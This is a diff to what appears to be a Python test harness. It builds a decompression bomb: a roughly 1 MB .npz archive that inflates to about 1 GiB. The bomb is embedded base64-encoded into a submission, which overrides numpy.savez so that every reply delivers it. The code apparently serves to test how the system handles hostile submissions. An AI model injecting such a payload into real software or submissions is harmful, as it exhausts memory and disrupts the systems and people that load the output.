@@ -70,28 +70,37 @@ def visualize(G, dataset, device, path, indices=(0, 1, 2)):
 '''
 
 
-def npz_bomb(reference, inflated=2 ** 30):
-    """Every reply is an .npz of ~1 MB on disk whose one array inflates to `inflated` bytes."""
-    return reference + f'''
+def make_npz_bomb(inflated=2 ** 30):
+    """An honest .npz (sizes, CRC) of ~1 MB whose one float64 array inflates to `inflated` bytes.
+    Built here, on the trusted side (a few seconds of zlib), and embedded in the submission, so that
+    the submission's import stays fast."""
+    import io
+    import zipfile
 
-def _make_bomb():
-    import io, zipfile
     import numpy as np
-    n = {inflated} // 8
+
     header = io.BytesIO()
-    np.lib.format.write_array_header_1_0(header, {{"descr": "<f8", "fortran_order": False, "shape": (n,)}})
+    np.lib.format.write_array_header_1_0(header, {"descr": "<f8", "fortran_order": False,
+                                                  "shape": (inflated // 8,)})
     zeros = bytes(2 ** 24)
     buf = io.BytesIO()
-    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:  # honest sizes and CRC, streamed
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
         with z.open("g.npy", "w", force_zip64=True) as f:
             f.write(header.getvalue())
-            for _ in range(n * 8 // len(zeros)):
+            for _ in range(inflated // len(zeros)):
                 f.write(zeros)
     return buf.getvalue()
 
 
-_BOMB = _make_bomb()
+def npz_bomb(reference, bomb):
+    """Every reply is the bomb: the worker's numpy.savez is replaced by one that writes it."""
+    import base64
+
+    return reference + f'''
+
+import base64 as _b64
 import numpy as _np_bomb
+_BOMB = _b64.b64decode({base64.b64encode(bomb).decode()!r})
 
 
 def _savez_bomb(file, *a, **k):
